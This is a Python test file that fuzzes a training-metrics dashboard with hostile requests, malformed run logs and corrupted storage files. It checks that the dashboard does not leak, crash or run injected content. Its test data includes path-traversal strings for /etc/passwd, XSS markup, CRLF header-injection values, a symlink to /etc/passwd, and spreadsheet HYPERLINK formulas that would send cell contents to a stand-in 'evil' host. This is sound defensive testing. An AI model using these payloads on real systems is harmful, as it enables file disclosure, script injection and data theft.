import copy
import csv
import io
import json
import logging
import os
import platform
import re
import shutil
import time
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any, Final
from urllib.parse import quote, urlencode

import numpy as np
import pyarrow as pa
import pytest
from dashboard_client import Answer, Callback, Send, Visit, callbacks, through
from dashboard_watch import leaks, opened
from runs_to_show import fill, write

from entropylens.records import SCHEMAS
from entropylens.store.compact import compact
from entropylens.store.layout import Layout
from entropylens.store.segments import write_segment
from entropylens.store.writer import RunWriter
from entropylens_dashboard import create_server, library

pytestmark = pytest.mark.filterwarnings("ignore::UserWarning")

SLOWEST: Final = 2.0
"""Seconds of one answer; 0.1 on two idle cores."""
LARGEST: Final = 4 * 2**20
"""Bytes of one answer."""
MARKUP: Final = "<img src=x onerror=alert(1)></script><!--"
HOSTILE: Final[dict[str, Any]] = {
    "a path": "../../etc/passwd",
    "a coded path": "..%2f..%2fetc%2fpasswd",
    "an absolute path": "/etc/passwd",
    "a NUL": "a\0b",
    "a megabyte": "x" * 10**6,
    "half a character": "\ud800",
    "markup": MARKUP,
    "a number": 7,
    "more digits than a float has": 10**400,
    "infinity": float("inf"),
    "NaN": float("nan"),
    "a negative number": -1,
    "true": True,
    "null": None,
    "no text": "",
    "no list": [],
    "no mapping": {},
    "negative numbers": [-1, -2],
    "the widest range": [-1e308, 1e308],
    "a range too far": [1e300, 2e300],
    "nulls": [None, None],
    "mappings": [{"a": 1}],
    "ten thousand runs": [f"{number:012x}" for number in range(10_000)],
    "foreign keys": {"../x": {"../y": [1]}, "page": "vitals", "runs": ["a"]},
    "deep nesting": json.loads("[" * 200 + "]" * 200),
}
BELOW: Final = (
    "a path",
    "a megabyte",
    "half a character",
    "more digits than a float has",
    "null",
    "mappings",
    "deep nesting",
)
"""What is put below the top of a value."""
PAGES: Final = {
    "vitals": "/run/{0}?smooth=0.5&by=step&within=5~60&more=loss/mean",
    "compare": "/compare?runs={0},{1}&names=loss/mean&baseline={1}",
    "series": "/run/{0}/series?lines=loss/mean%0A%0Atrain",
    "runs": "/?filter=run",
}
OWN: Final = {
    "vitals": ("page", "panels", '{"graph"', "head", "findings", '{"control":"more"'),
    "compare": ("panels", '{"graph"', "outcome", '{"control":"names"'),
    "series": ("panels", '{"graph"', "series"),
    "runs": ("page", "runs"),
}
"""How the names of the callbacks of each page begin."""


@pytest.fixture(autouse=True)
def _quiet(caplog: pytest.LogCaptureFixture) -> None:
    """Thousands of faults with their places would hide what a failing test says."""
    caplog.set_level(logging.CRITICAL + 1, "entropylens")


class Desk:
    """A server over a folder, and pages that were opened on it."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.libraries: list[library.Library] = []
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr("entropylens_dashboard.app.Library", self._library)
            self.send: Send = through(create_server(folder))
        self.known = callbacks(self.send)

    def _library(self, folder: Path) -> library.Library:
        self.libraries.append(library.Library(folder))
        return self.libraries[-1]

    def look_again(self) -> None:
        """Have the folder looked through at the next request."""
        for one in self.libraries:
            one._good_until = 0.0

    def visit(self, path: str) -> Visit:
        visit = Visit(self.send, self.known)
        assert visit.open(path).status == 200
        return visit

    def ids(self) -> dict[str, str]:
        rows = self.visit("/").values["runs.rowData"]
        return {row["folder"]: row["id"] for row in rows}

    def every_page(self, run_id: str, pages: Sequence[str] = tuple(PAGES)) -> dict[str, Answer]:
        """What the pages of a run, and those of all, answer."""
        answers: dict[str, Answer] = {}
        places = {"vitals": f"/run/{run_id}", "series": f"/run/{run_id}/series", "runs": "/"}
        places["compare"] = f"/compare?runs={run_id},{self.ids().get('plain', '')}"
        for page in pages:
            path = places[page]
            visit = Visit(self.send, self.known)
            answers[f"{page} opens"] = visit.open(path)
            if page != "runs" and "spec.data" not in visit.values:
                continue  # it says why the run cannot be shown, and asks for nothing
            if page != "runs":
                answers[f"{page} draws"] = visit.draw()
                answers[f"{page} beats"] = visit.beat()
            for name in self.known:
                if name.startswith(OWN[page]) and not name.startswith(("page", "panels", '{"gr')):
                    answers[f"{page} {name}"] = visit.ask(name)
        return answers


@pytest.fixture
def desk(folder: Path, make: Any, tmp_path: Path) -> Desk:
    """A run that is written, one that has ended, and one outside of the folder."""
    make("run", steps=50)
    make("other", steps=50, seed=1).close()
    outside = RunWriter(tmp_path / "outside", flush_seconds=0.05)
    fill(outside, 1, 5)
    outside.close()
    return Desk(folder)


def spots(value: Any, way: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Places in a value: itself, and some of each level below."""
    yield way
    if isinstance(value, dict):
        for key in list(value)[:6] if not way else list(value)[:1]:
            yield from spots(value[key], (*way, key))
    elif isinstance(value, list) and value:
        yield from spots(value[0], (*way, 0))


def put(value: Any, way: tuple[Any, ...], new: Any) -> Any:
    if not way:
        return new
    value = copy.copy(value)
    value[way[0]] = put(value[way[0]], way[1:], new)
    return value


def replaced(visit: Visit, callback: Callback) -> Iterator[tuple[str, dict[str, Any]]]:
    """What a callback is sent, with one thing of it replaced by something hostile."""
    for at, (id, prop) in enumerate(callback.arguments):
        for way in spots(visit.value(id, prop)):
            for what in BELOW if way else HOSTILE:
                hostile = HOSTILE[what]
                body = callback.body(visit.value, visit.graphs)
                place = (body["inputs"] + body["state"])[at]
                place["value"] = put(place["value"], way, hostile)
                yield f"{what} as {id}.{prop} {list(way)} of {callback.name[:20]}", body


def faults(desk: Desk, what: str, answer: Answer, seconds: float = 0.0) -> list[str]:
    found = [f"tells {secret!r}" for secret in leaks(answer, desk.folder)]
    found += [f"takes {seconds:.1f} s"] if seconds > SLOWEST else []
    found += [f"{len(answer.body):,} bytes"] if len(answer.body) > LARGEST else []
    found += [f"status {answer.status}"] if answer.status >= 500 else []
    return [f"{what}: {one}" for one in found]


def summary(found: list[str]) -> str:
    return f"{len(found)} faults\n" + "\n".join(found[:: max(len(found) // 30, 1)])


# -- what a browser sends -------------------------------------------------------------------------


@pytest.mark.parametrize("page", PAGES)
def test_a_callback_takes_nothing_on_trust(desk: Desk, make: Any, page: str) -> None:
    ids = desk.ids()
    visit = desk.visit(PAGES[page].format(ids["run"], ids["other"]))
    if page == "runs":
        visit.ask(
            "runs.rowTransaction looked.data runs-count.children answered.data",
            tags__data={"a": "b"},
        )
    else:
        assert visit.draw(within__data=[5, 60]).status == 200
        assert visit.graphs
    make("late", steps=5)  # so that the folder changes, too
    found: list[str] = []
    with opened(desk.folder) as strange:
        for name in (name for name in desk.known if name.startswith(OWN[page])):
            for what, body in replaced(visit, desk.known[name]):
                start = time.monotonic()
                answer = desk.send("/_dash-update-component", json.dumps(body).encode())
                found += faults(desk, what, answer, time.monotonic() - start)
    assert strange == []
    assert not found, summary(found)
    assert desk.visit(f"/run/{ids['run']}").draw().status == 200


def ledgers(ledger: dict[str, Any], other: dict[str, Any]) -> Iterator[tuple[str, Any]]:
    """What a browser might give back in place of what it was given."""
    (run_id, cursor), *_ = ledger["cursors"].items()
    (other_id, strange), *_ = other["cursors"].items()
    owner, table, epoch, ends = json.loads(cursor)
    line = next(iter(ledger["last"]))
    panel = next(iter(ledger["lines"]))
    for what, rows in (("negative", -5), ("huge", 2**63), ("vast", 10**300), ("earlier", 0)):
        text = json.dumps([owner, table, epoch, [[0, rows]]])
        yield f"{what} rows read", {**ledger, "cursors": {run_id: text}}
    for what, text in (
        ("another run's", strange),
        ("another table's", json.dumps([owner, "events", epoch, ends])),
        ("a path for a table", json.dumps([owner, "../../etc", epoch, ends])),
        ("many ranks", json.dumps([owner, table, epoch, [[rank, 1] for rank in range(10_000)]])),
        ("deep", "[" * 100_000),
        ("no texts", json.dumps([1, 2, 3, [["0", "1"]]])),
    ):
        yield f"{what} cursor", {**ledger, "cursors": {run_id: text}}
    yield "another run's ledger", other
    yield "no cursor of this run", {**ledger, "cursors": {other_id: strange}}
    yield "lines of no panel", {**ledger, "lines": {"../x": [line]}}
    yield "lines that nobody asked for", {**ledger, "lines": {panel: ["a", MARKUP, 7]}}
    yield "no lines", {**ledger, "lines": {}}
    yield "many lines", {**ledger, "lines": {panel: [line] * 10_000}}
    yield "no last steps", {**ledger, "last": {}}
    yield "last steps of no kind", {**ledger, "last": dict.fromkeys(ledger["last"], "x")}
    yield "counts of no kind", {**ledger, "counts": {key: [None] for key in ledger["counts"]}}
    yield "memory of no kind", {**ledger, "memory": {key: ["x", {}] for key in ledger["last"]}}
    yield "no memory", {**ledger, "memory": {}}
    for name in ledger:
        yield f"no {name}", {key: value for key, value in ledger.items() if key != name}


@pytest.mark.parametrize("smooth", ["0", "0.9"])
def test_a_ledger_that_was_altered_is_no_harm(
    desk: Desk, folder: Path, make: Any, smooth: str
) -> None:
    writer = make("grows", steps=20)
    ids = desk.ids()
    visit, other = (desk.visit(f"/run/{ids[n]}?smooth={smooth}") for n in ("grows", "other"))
    visit.draw()
    other.draw()
    fill(writer, 21, 25)
    writer.flush()
    kept = visit.values["ledger.data"]
    found: list[str] = []
    with opened(folder) as strange:
        for what, ledger in ledgers(kept, other.values["ledger.data"]):
            visit.values["ledger.data"] = ledger
            start = time.monotonic()
            found += faults(desk, what, visit.beat(), time.monotonic() - start)
    assert strange == []
    assert not found, summary(found)
    visit.values["ledger.data"] = kept
    assert "ledger" in visit.beat().outputs()


BODIES: Final = (
    b"",
    b"[]",
    b"7",
    b"{}",
    b"null",
    b"{" * 100_000,
    b"[" * 100_000,
    b"\xff\xfe",
    b'{"output": "../../etc/passwd.data"}',
    b'{"output": {"a": 1}, "outputs": [], "inputs": 3}',
    b'{"output": "page.children", "inputs": [], "outputs": [], "changedPropIds": []}',
    b'{"output": "page.children", "inputs": [{"id": "__class__"}], "changedPropIds": ["a"]}',
    b'{"output": "page.children", "outputs": 7, "inputs": [7], "changedPropIds": [7]}',
    b'{"output": "' + b"x" * 10**6 + b'"}',
)


def test_the_first_page_does_not_tell_what_it_runs_on(desk: Desk) -> None:
    for path in ("/", "/_dash-layout", "/_dash-dependencies"):
        answer = desk.send(path, None)
        assert platform.python_version() not in answer.text, path
        assert str(desk.folder.parent) not in answer.text, path


def test_what_is_no_request_of_a_page_tells_nothing(desk: Desk) -> None:
    for body in BODIES:
        with opened(desk.folder) as strange:
            answer = desk.send("/_dash-update-component", body)
        assert 400 <= answer.status <= 500, body[:50]
        assert leaks(answer, desk.folder) == [], body[:50]
        assert strange == []
    assert desk.send("/", None).status == 200


ADDRESSES: Final = (
    "/run/../../etc/passwd",
    "/run/..%2f..%2fetc%2fpasswd",
    "/run/%2e%2e/outside",
    "/run/outside",
    "//etc/passwd",
    "/run/{0}/../../../etc/passwd",
    "/run/{0}/series/..",
    "/run/{0}%00",
    "/run/" + "a" * 100_000,
    "/compare?runs=" + ",".join(["../../etc"] * 5_000),
    "/compare?runs={0}&names=" + quote(MARKUP) + "&baseline=../x",
    "/compare?runs=" + ",".join(["{0}"] * 5_000),
    "/run/{0}?within=1e308~-1e308&smooth=nan&by=../x&scale=%00",
    "/run/{0}?within=-1e308~1e308",
    "/run/{0}?within=nan~inf",
    "/run/{0}?smooth=1e999",
    "/run/{0}?more=" + ",".join(["a"] * 5_000),
    "/run/{0}?more=" + quote("\0\u202e" + MARKUP),
    "/run/{0}?more=%ff%fe%ed%a0%80",
    "/run/{0}/series?lines=" + quote("\t".join(["a\nb\nc"] * 5_000)),
    "/?filter=" + quote(MARKUP),
    "/\ud800",
)


def test_an_address_leads_nowhere_but_to_the_runs(desk: Desk, tmp_path: Path) -> None:
    run_id = desk.ids()["run"]
    outside = json.loads((tmp_path / "outside" / "run.json").read_text())["run_id"]
    found: list[str] = []
    with opened(desk.folder) as strange:
        for address in (*ADDRESSES, f"/run/{outside}", f"/run/{outside[:12]}"):
            visit = Visit(desk.send, desk.known)
            answers = {"opens": visit.open(address.replace("{0}", run_id))}
            if "spec.data" in visit.values:
                answers |= {"draws": visit.draw(), "beats": visit.beat()}
            for what, answer in answers.items():
                found += faults(desk, f"{address[:60]} {what}", answer)
    assert strange == []
    assert not found, summary(found)
    assert "Not here" in visit.open(f"/run/{outside[:12]}").text


# -- what is taken along --------------------------------------------------------------------------

QUERIES: Final[dict[str, dict[str, Any]]] = {
    "no page": {"page": "../../etc/passwd"},
    "a page of nobody": {"page": "__class__"},
    "no runs": {"runs": ""},
    "paths": {"runs": "../outside,/etc/passwd,..%2f"},
    "ten thousand runs": {"runs": ",".join(["a" * 12] * 10_000)},
    "one run ten thousand times": {"runs": ",".join(["RUN"] * 10_000)},
    "no panel": {"panel": "../x"},
    "a panel of megabytes": {"panel": "x" * 10**6},
    "names of megabytes": {"page": "compare", "panel": "x" * 10**5, "names": "x" * 10**5},
    "a foreign name": {"page": "compare", "panel": MARKUP, "names": MARKUP},
    "added": {"panel": "a\0b", "more": ["a\0b", "c"] * 1_000},
    "within nowhere": {"within": "nan~inf"},
    "within everything": {"within": "-1e308~1e308"},
    "within the far": {"within": "1e300~2e300"},
    "within text": {"within": "~~~"},
    "no smoothing": {"smooth": "1e999", "by": "../x", "scale": "\0"},
    "tokens": {"by": "tokens", "within": "1e300~2e300"},
    "a strange baseline": {"page": "compare", "panel": "loss/mean", "baseline": "../x"},
    "lines": {"page": "series", "panel": "a", "lines": "\n\n\t" * 10_000},
}


@pytest.mark.parametrize("kind", ["csv", "html"])
def test_an_export_takes_nothing_on_trust(desk: Desk, kind: str) -> None:
    run_id = desk.ids()["run"]
    plain = {"page": "vitals", "runs": run_id, "panel": "loss"}
    found: list[str] = []
    with opened(desk.folder) as strange:
        for what, query in QUERIES.items():
            text = urlencode({**plain, **query}, doseq=True).replace("RUN", run_id)
            start = time.monotonic()
            answer = desk.send(f"/export/figure.{kind}?{text}", None)
            seconds = time.monotonic() - start
            # The figure comes with the 4.5 MB of the program that draws it.
            answer = Answer(answer.status, answer.body[-LARGEST:], answer.headers)
            secrets = leaks(Answer(0, answer.body[-100_000:], answer.headers), desk.folder)
            found += [f"{what}: {one}" for one in secrets if "." not in one[:3]]
            found += [f"{what}: {answer.status}"] if answer.status not in (200, 404) else []
            found += [f"{what}: {seconds:.1f} s"] if seconds > SLOWEST else []
    assert strange == []
    assert not found, summary(found)


NAMES: Final = (
    "figure.exe",
    "figure.csv%0d%0aSet-Cookie:a=b",
    "figure.csv%0aX-Evil:1",
    "figure.../../../etc/passwd",
    "figure.csv%00.html",
    "../export/figure.py",
    "figure.",
    "figure.%22;x=%22",
)


def test_an_export_s_name_is_ours(desk: Desk) -> None:
    query = urlencode({"page": "vitals", "runs": desk.ids()["run"], "panel": "loss"})
    for name in NAMES:
        answer = desk.send(f"/export/{name}?{query}&x=%0d%0aSet-Cookie:%20a=b", None)
        assert answer.status in (200, 404), name
        assert "Content-Disposition" not in answer.headers, name
        assert answer.status == 404 or "_dash-renderer" in answer.text, name  # shows no run
        assert not {"Set-Cookie", "X-Evil"} & set(answer.headers), name
        assert answer.status == 200 or leaks(answer, desk.folder) == [], name


FORMULAS: Final = ("=", "+", "-", "@", "\t", "\r", "\n", " =", "＝", "＋", "－", "＠")


@pytest.mark.parametrize("page", ["compare", "series"])
def test_no_name_is_a_formula_in_a_spreadsheet(folder: Path, page: str) -> None:
    starts = [one for one in FORMULAS if page == "compare" or one not in "\t\n"]
    for at, start in enumerate(starts):
        name = f"{start}HYPERLINK(\"http://evil/\"&A1);'x'"
        writer = RunWriter(folder / str(at), name=f"{name}\r\n=1+1,2", flush_seconds=0.01)
        write(writer, name, [1, 2], [-1.0, 2.0], module=name if page == "series" else "")
        writer.close()
    desk, found = Desk(folder), []
    ids = desk.ids()
    for at, start in enumerate(starts):
        name = f"{start}HYPERLINK(\"http://evil/\"&A1);'x'"
        query = {"page": page, "runs": ids[str(at)], "panel": name, "names": name}
        query["lines"] = f"{name}\n{name}\ntrain"
        answer = desk.send(f"/export/figure.csv?{urlencode(query)}", None)
        assert answer.status == 200, start
        told = answer.headers["Content-Disposition"]
        assert re.fullmatch(r'attachment; filename="[A-Za-z0-9][A-Za-z0-9.-]*\.csv"', told)
        rows = list(csv.reader(io.StringIO(answer.text, newline="")))
        assert [row[-1] for row in rows[1:]] == ["-1.0", "2.0"]
        found += [cell for row in rows[1:] for cell in row[:3] if cell[:1] in (*FORMULAS, " ")]
    assert found == []


def test_a_figure_taken_along_runs_no_name(folder: Path) -> None:
    name = f"user/{MARKUP}<script>alert(1)</script>"
    writer = RunWriter(folder / "run", name=name, flush_seconds=0.05)
    write(writer, name, [1, 2], [1.0, 2.0])
    writer.close()
    desk = Desk(folder)
    query = {"page": "compare", "runs": desk.ids()["run"], "panel": name, "names": name}
    answer = desk.send(f"/export/figure.html?{urlencode(query)}", None)
    assert answer.status == 200
    assert "<script>alert(1)" not in answer.text
    assert MARKUP not in answer.text


# -- what a log holds -----------------------------------------------------------------------------


def change(folder: Path, file: str, **facts: Any) -> None:
    """Of a run's manifest or status."""
    path = folder / "evil" / file
    path.write_text(json.dumps({**json.loads(path.read_text()), **facts}))


def all_well(desk: Desk, folder: str, pages: Sequence[str] = tuple(PAGES)) -> dict[str, Answer]:
    """The pages of a run and the list of all answer; nothing of the machine is told."""
    found: list[str] = []
    with opened(desk.folder) as strange:
        ids = desk.ids()
        assert "plain" in ids
        answers = desk.every_page(ids[folder], pages)
    for what, answer in answers.items():
        found += faults(desk, what, answer)
    assert set(strange) <= {"/etc/passwd"}  # behind a link of the run itself
    assert not found, summary(found)
    return answers


@pytest.fixture
def evil(folder: Path, make: Any) -> RunWriter:
    """A run that is made hostile, beside a plain one; their names are in the log of each."""
    make("plain", steps=30).close()
    writer: RunWriter = make("evil", steps=30)
    return writer


WILD: Final[dict[str, Any]] = {
    "markup": MARKUP,
    "control characters": "a\0b\x1b[31m\r\n\t\x7f",
    "half a character": "a\ud800b\udfff",
    "the other direction": "\u202eevil\u202c\u2066\u200f",
    "a megabyte": "x" * 10**6,
    "no text": "",
    "a number": 7,
    "a float": 1.5,
    "too large": 10**400,
    "NaN": float("nan"),
    "infinity": float("inf"),
    "a list": [1, [2]],
    "texts": ["a", MARKUP, "\ud800"],
    "a mapping": {"a": {"b": MARKUP}},
    "null": None,
    "true": True,
    "many": ["tag"] * 10_000,
    "deep": json.loads('{"a":' * 200 + "1" + "}" * 200),
}


ODD: Final = (
    "markup",
    "half a character",
    "a megabyte",
    "too large",
    "NaN",
    "a list",
    "texts",
    "a mapping",
    "null",
    "many",
    "deep",
)


@pytest.mark.parametrize("what", ODD)
def test_a_manifest_may_hold_anything(folder: Path, evil: RunWriter, what: str) -> None:
    evil.close()
    wild, desk, found = WILD[what], Desk(folder), []
    plain = (folder / "evil/run.json").read_text()
    facts: list[dict[str, Any]] = [
        {"name": wild, "created": wild, "host": wild, "commit": wild, "argv": wild},
        {"config": wild},
        {"config": {"user": wild, "model": wild, "optimizer": wild, "preset": wild}},
        {"config": {"user": {"tags": wild, "seed": wild, str(wild)[:1000]: wild}}},
        {"attempts": wild},
    ]
    for one in facts:
        (folder / "evil/run.json").write_text(plain)
        change(folder, "run.json", **one)
        desk.look_again()
        try:
            all_well(desk, "evil", ("vitals", "compare", "runs"))
        except AssertionError as error:
            found.append(f"{list(one)}: {str(error)[:500]}")
    assert not found, "\n".join(found)


STATUS: Final = ("step", "state", "reason", "rows", "faults", "lost_rows", "attempt", "heartbeat")


@pytest.mark.parametrize("what", [one for one in ODD if one not in ("texts", "many", "deep")])
def test_a_status_may_hold_anything(folder: Path, evil: RunWriter, what: str) -> None:
    evil.close("failed", "gone")
    desk, found = Desk(folder), []
    plain = (folder / "evil/status/rank-000.json").read_text()
    wild: Any = WILD[what]
    for one in [*({name: wild} for name in STATUS), {"rows": {"metrics": wild, "events": wild}}]:
        (folder / "evil/status/rank-000.json").write_text(plain)
        change(folder, "status/rank-000.json", **one)
        desk.look_again()
        try:
            all_well(desk, "evil", ("vitals", "runs"))
        except AssertionError as error:
            found.append(f"{list(one)}: {str(error)[:500]}")
    assert not found, "\n".join(found)


TEXTS: Final = {
    name: text for name, text in WILD.items() if isinstance(text, str) and "half" not in name
}


@pytest.mark.parametrize("what", TEXTS)
def test_names_and_events_are_data(folder: Path, evil: RunWriter, what: str) -> None:
    text = TEXTS[what]
    write(evil, f"user/{text}", [1, 2], [1.0, 1.0])
    write(evil, "conditioning/kappa", [1, 2], [1.0, 2.0], module=text, phase=text)
    for severity in ("error", text):
        for _ in range(2):
            evil.event(f"alarm/{text}", text, step=5, severity=severity, rule=text, mode=text)
    evil.close("failed", text)
    desk = Desk(folder)
    answers = all_well(desk, "evil")
    outputs = answers["series series.rowData series.selectedRows series-count.children"].outputs()
    count = outputs["series-count"]["children"]
    # Names of a megabyte would make a table of megabytes: they are counted instead.
    assert len(outputs["series"]["rowData"]) == (12 if len(text) > 1000 else 14)
    assert ("left out" in count) is (len(text) > 1000)
    run_id = desk.ids()["evil"]
    line = "\n".join((f"user/{text}", "", "train"))
    visit = desk.visit(f"/run/{run_id}/series")
    drawn = visit.draw(view__data={"lines": line})
    assert drawn.status == 200
    assert leaks(drawn, folder) == []
    if "\n" not in text and "\t" not in text:
        assert visit.graphs == [f"user/{text}"]
    for answer in (*answers.values(), drawn):
        # Markup in JSON is data; nothing of ours puts it into a page but as a component's text.
        assert answer.headers["Content-Type"].startswith("application/json")
        assert answer.headers["X-Content-Type-Options"] == "nosniff"


BROKEN: Final = b"user/\xff\xfe\xed\xa0\x80"
NO_TEXT: Final = pa.StringArray.from_buffers(
    1, pa.py_buffer(np.array([0, len(BROKEN)], np.int32).tobytes()), pa.py_buffer(BROKEN)
)
LOSS: Final = pa.array(["loss/mean"])
FAR: Final = pa.array([2**62]).cast(pa.timestamp("us", tz="UTC"))
ROWS: Final[dict[str, tuple[str, dict[str, Any]]]] = {
    "a name that is no text": ("metrics", {"name": NO_TEXT}),
    "a module that is no text": ("metrics", {"name": LOSS, "module": NO_TEXT}),
    "an event that is no text": ("events", {"kind": NO_TEXT, "message": NO_TEXT}),
    "a severity that is no text": ("events", {"severity": NO_TEXT, "rule": NO_TEXT}),
    "an infinite value": ("metrics", {"name": LOSS, "value": pa.array([np.inf])}),
    "the least step": ("metrics", {"name": LOSS, "step": pa.array([-(2**63)])}),
    "the largest step": ("metrics", {"name": LOSS, "step": pa.array([2**63 - 1])}),
    "a time far off": ("metrics", {"name": LOSS, "time": FAR}),
    "tokens below none": ("metrics", {"name": pa.array(["tokens/seen"]), "value": -1e308}),
    "an event without a kind": ("events", {"kind": None, "step": pa.array([2**62])}),
    "an event at no step": ("events", {"step": pa.nulls(1, pa.int64())}),
    "an event at no time": ("events", {"time": pa.nulls(1, FAR.type)}),
    "an event far off": ("events", {"time": FAR}),
    "evidence that is none": ("events", {"kind": pa.array(["alarm"]), "evidence": "{"}),
}


@pytest.mark.parametrize("what", ROWS)
def test_a_row_may_hold_anything(folder: Path, evil: RunWriter, what: str) -> None:
    evil.close()
    table, columns = ROWS[what]
    add(folder / "evil", table, **columns)
    all_well(Desk(folder), "evil")


def add(run: Path, table: str, **columns: Any) -> Path:
    """A segment of one row, after all others."""
    layout = Layout(run)
    schema = SCHEMAS[table]
    plain: dict[str, Any] = {"rank": 0, "attempt": 0, "phase": "train", "step": 40, "value": 1.0}
    plain |= {"module": "", "message": "it said", "time": 1_700_000_000_000_000}
    plain |= {name: cell for name, cell in columns.items() if not isinstance(cell, pa.Array)}
    cells = [
        columns[field.name]
        if isinstance(columns.get(field.name), pa.Array)
        else pa.array([plain.get(field.name)], field.type)
        for field in schema
    ]
    path = layout.segment(table, 0, layout.next_sequence(table, 0))
    facts = {"run_id": json.loads(layout.manifest.read_text())["run_id"], "table": table}
    rows = pa.table(cells, schema=schema)
    first = 10_000 + layout.next_sequence(table, 0)
    write_segment(path, rows, **facts, rank=0, first_row=first, end_row=first + 1)
    return path


# -- damage ---------------------------------------------------------------------------------------


def cut(path: Path) -> None:
    os.truncate(path, path.stat().st_size // 2)


def zeroed(path: Path) -> None:
    path.write_bytes(bytes(path.stat().st_size))


def emptied(path: Path) -> None:
    os.truncate(path, 0)


def hole(path: Path) -> None:
    content = bytearray(path.read_bytes())
    content[100 : len(content) // 2] = bytes(len(content) // 2 - 100)
    path.write_bytes(content)


def flipped(path: Path) -> None:
    content = np.frombuffer(path.read_bytes(), np.uint8).copy()
    places = np.random.default_rng(0).integers(4, len(content) - 8, 40)
    content[places] ^= 1 << (places % 8).astype(np.uint8)
    path.write_bytes(content.tobytes())


def flipped_at_the_end(path: Path) -> None:
    content = np.frombuffer(path.read_bytes(), np.uint8).copy()
    places = len(content) - 9 - np.random.default_rng(1).integers(0, 600, 20)
    content[places] ^= 1 << (places % 8).astype(np.uint8)
    path.write_bytes(content.tobytes())


def foreign(path: Path) -> None:
    shutil.copy(path.parents[2] / "plain" / path.parent.name / "000-000000.parquet", path)


def a_folder(path: Path) -> None:
    path.unlink()
    path.mkdir()
    (path / "x").write_text("x")


def a_link(path: Path) -> None:
    path.unlink()
    path.symlink_to("/etc/passwd")


def unreadable_lengths(path: Path) -> None:
    content = path.read_bytes()
    path.write_bytes(content[:-8] + b"\xff\xff\xff\x7f" + content[-4:])


DAMAGE: Final = (
    cut,
    zeroed,
    emptied,
    hole,
    flipped,
    flipped_at_the_end,
    foreign,
    a_folder,
    a_link,
    unreadable_lengths,
)


def in_segments(folder: Path, parts: int = 4) -> Path:
    """A run of 100 steps in several segments, of metrics and of events, and a tail."""
    writer = RunWriter(folder / "evil", flush_seconds=0.02, seal_seconds=1000, seal_rows=1)
    for part in range(parts):
        first = 1 + part * 100 // parts
        fill(writer, first, (part + 1) * 100 // parts)
        writer.event("note", f"part {part}", step=first)
        writer.flush()
        time.sleep(0.03)
    writer.close()
    return folder / "evil"


def steps_drawn(desk: Desk, panel: str = "loss") -> list[int]:
    visit = desk.visit(f"/run/{desk.ids()['evil']}")
    assert visit.draw().status == 200
    traces = visit.figures[panel]["data"]
    return [] if not traces else list(traces[0]["x"])


def test_of_damaged_segments_the_rest_is_shown(folder: Path, make: Any) -> None:
    make("plain", steps=30).close()
    run = in_segments(folder, parts=2 + len(DAMAGE))
    for table in ("metrics", "events"):
        segments = Layout(run).segments(table)
        assert len(segments) >= 2 + len(DAMAGE)
        for damage, path in zip(DAMAGE, segments[1:], strict=False):
            damage(path)
    desk = Desk(folder)
    answers = all_well(desk, "evil")
    assert any(f"part {1 + len(DAMAGE)}".encode() in answer.body for answer in answers.values())
    steps = steps_drawn(desk)
    assert {1, 100} <= set(steps) < set(range(1, 101))


@pytest.mark.parametrize("damage", [cut, zeroed, flipped, foreign, a_folder])
def test_a_damaged_pyramid_or_merge_hides_nothing_else(
    folder: Path, make: Any, damage: Any
) -> None:
    make("plain", steps=30).close()
    compact(folder / "plain")
    run = in_segments(folder)
    compact(run)
    whole = steps_drawn(Desk(folder))
    for path in sorted((run / "pyramid").glob("*.parquet")):
        if damage is foreign:
            shutil.copy(folder / "plain" / "pyramid" / path.name, path)
        else:
            damage(path)
    desk = Desk(folder)
    all_well(desk, "evil", ("vitals", "series"))
    assert steps_drawn(desk) == whole == list(range(1, 101))


@pytest.mark.parametrize("damage", [cut, zeroed, flipped, a_folder])
def test_a_damaged_tail_hides_nothing_that_is_sealed(folder: Path, make: Any, damage: Any) -> None:
    make("plain", steps=30).close()
    run = in_segments(folder)
    writer = RunWriter(run, resume_step=100, flush_seconds=0.02, seal_seconds=1000)
    fill(writer, 101, 150)
    writer.flush()
    for table in ("metrics", "events"):
        (path,) = Layout(run).tails(table).values()
        damage(path)
    desk = Desk(folder)
    all_well(desk, "evil", ("vitals", "runs"))
    assert set(range(1, 101)) <= set(steps_drawn(desk))
    shutil.rmtree(run)  # nobody seals what was damaged
    writer.close()
